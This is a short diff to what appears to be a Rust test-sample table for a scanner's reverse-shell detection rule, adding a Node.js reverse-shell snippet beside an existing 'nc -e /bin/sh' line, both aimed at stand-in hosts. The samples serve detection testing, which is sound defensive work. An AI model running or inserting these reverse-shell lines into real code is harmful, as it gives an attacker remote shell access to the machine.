@@ -261,6 +261,10 @@ pub(super) const SAMPLES: &[RuleSamples] = &[
     RuleSamples {
         rule: "remote-execution/reverse-shell",
         hits: &[
+            (
+                "run.js",
+                "const s = require('net').connect(4444, 'host.invalid');\nconst sh = require('child_process').spawn('/bin/sh', []);\ns.pipe(sh.stdin);\nsh.stdout.pipe(s);\n",
+            ),
             ("run.sh", "nc -e /bin/sh 203.0.113.7 4444"),
             (
                 "run.py",
